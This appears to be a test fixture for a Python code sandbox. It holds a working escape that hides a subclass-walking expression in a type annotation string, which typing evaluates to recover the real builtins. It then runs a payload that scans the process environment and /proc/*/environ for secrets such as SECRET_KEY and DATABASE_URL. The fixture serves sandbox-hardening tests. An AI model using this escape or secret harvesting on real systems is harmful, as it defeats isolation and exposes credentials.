"""Look for host secrets in the environment of every process it can see:
the canary the test sets on the host, SECRET_KEY, DATABASE_URL, REDIS_URL."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


SECRETS = (b"HOTPATH_CANARY", b"SECRET_KEY", b"DATABASE_URL", b"REDIS_URL", b"CELERY_", b"DJANGO_SETTINGS_MODULE")


def _probe():
    import os
    found = [f"own env {key}" for key in os.environ if key.encode().startswith(SECRETS)]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                environ = handle.read()
        except OSError:
            continue
        for secret in SECRETS:
            if secret in environ:
                start = environ.index(secret)
                found.append(f"pid {pid}: {environ[start:start + 60]!r}")
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
